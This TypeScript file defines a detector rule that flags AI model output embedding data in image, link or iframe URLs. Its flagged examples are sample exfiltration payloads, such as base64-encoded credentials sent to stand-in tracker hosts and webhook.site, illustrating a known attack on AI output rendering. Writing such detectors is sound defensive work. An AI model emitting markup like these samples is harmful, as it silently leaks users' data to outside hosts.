import type { Severity } from '@ase/schemas'
import { answer } from '../../examples.ts'
import { worst } from '../../matching/hits.ts'
import { isExfiltrationHost } from '../../network/exfiltration-hosts.ts'
import type { Rule } from '../../rule.ts'
import { isPayload } from '../../text/payload.ts'
import { remoteReferences, type RemoteReference } from '../../text/remote-references.ts'

export const markdownExfiltration: Rule = {
  code: 'MARKDOWN_EXFILTRATION',
  severity: 'high',
  types: ['output'],
  reason:
    'Carries data in the address of an image, link or frame, which is fetched when the text is shown.',
  references: ['https://atlas.mitre.org/techniques/AML.T0077'],
  mappings: { owasp: ['LLM05', 'ASI02'], atlas: ['AML.T0077'], cwe: ['CWE-200'] },
  match: ({ envelope }) => {
    if (envelope.type !== 'output') return []
    const severity = worst(remoteReferences(envelope.input.content).map(judge))
    return severity === null ? [] : [{ path: 'input.content', severity }]
  },
  examples: {
    flags: [
      answer('![x](https://img.tracker.example/p.png?d=dXNlcjphbGljZSBrZXk6NDI0Mg)'),
      answer('<img src="https://c.tracker.example/dXNlcjphbGljZTtrZXk6NDI0Mg/logo.png">'),
      answer('[more](https://webhook.site/7f2b?c=hello)'),
      answer('<iframe src="https://tracker.example/f?q=a%20b%20c%20secret%20plan"></iframe>'),
    ],
    passes: [
      answer('![chart](https://example.com/chart.png)'),
      answer('![build](https://img.shields.io/badge/build-passing-brightgreen)'),
      answer('[map](https://maps.example.com/?q=Main+Street+5&utm_source=mail)'),
      answer('[docs](https://example.com/guide#install)'),
    ],
  },
}

function judge({ url, automatic }: RemoteReference): Severity | null {
  if (isExfiltrationHost(url)) return automatic ? 'high' : 'medium'
  if (!isPayload(url, automatic)) return null
  return automatic ? 'high' : 'medium'
}
